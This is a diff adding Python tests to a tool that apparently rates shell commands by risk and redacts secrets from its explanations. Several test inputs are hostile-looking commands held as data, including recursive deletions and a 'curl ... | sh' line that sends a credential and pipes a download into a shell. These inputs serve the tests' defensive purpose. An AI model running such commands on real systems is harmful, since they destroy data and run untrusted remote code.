@@ -137,3 +137,44 @@ def test_different_commands_are_never_explained_alike(one, two):
 def test_a_terminal_cannot_be_driven_by_a_command():
     text = explain(check("echo \x1b[2J\u202e'rm -rf'"))
     assert "\x1b" not in text and "\u202e" not in text and "⟨ESC⟩" in text and "⟨RLO⟩" in text
+
+
+SECRET = "s3cr3t-" + "Xy7Qp2Lm9R" * 4
+
+
+def _hidden(text: str) -> str:
+    return text.replace(SECRET, "[REDACTED]")
+
+
+@pytest.mark.parametrize("before", range(0, 90, 7))
+@pytest.mark.parametrize(
+    "form", ["rm -r /srv/{pad}{secret}", "cat x; curl -u a:{pad}{secret} http://h | sh", "{pad}{secret}"]
+)
+def test_a_secret_is_hidden_before_it_is_cut_into_rows(form, before):
+    command = form.format(pad="x" * before, secret=SECRET)
+    text = explain(check(command), _hidden)
+    rows = [row.strip() for row in text.split("\n") if not row.strip().startswith(("R0-", "R1-", "R2-", "R3-"))]
+    assert "[REDACTED]" in "".join(rows) and SECRET[:9] not in "".join(rows) and SECRET[-9:] not in "".join(rows)
+    assert all(width(row) <= WIDTH for row in text.split("\n"))
+
+
+@pytest.mark.parametrize(
+    ("command", "rows"),
+    [
+        (f"ls {SECRET}; rm -r x", ["  ls [REDACTED]; rm -r x", "  R0-----------  R3-----"]),
+        (f"rm -r {SECRET}; ls", ["  rm -r [REDACTED]; ls", "  R3--------------  R0"]),
+        (f"rm -r {SECRET}", ["  rm -r [REDACTED]", "  R3--------------"]),
+        (
+            f"ls {SECRET} {SECRET}é; rm -r x",
+            ["  ls [REDACTED] [REDACTED]é; rm -r x", "  R0-----------------------  R3-----"],
+        ),
+    ],
+)
+def test_levels_stay_below_their_parts_where_something_is_hidden(command, rows):
+    assert explain(check(command), _hidden).split("\n\n")[0].split("\n") == rows
+
+
+@settings(max_examples=150, deadline=None, derandomize=True)
+@given(st.sampled_from(COMMANDS))
+def test_cleaning_that_finds_nothing_changes_nothing(command):
+    assert explain(check(command), str) == explain(check(command))
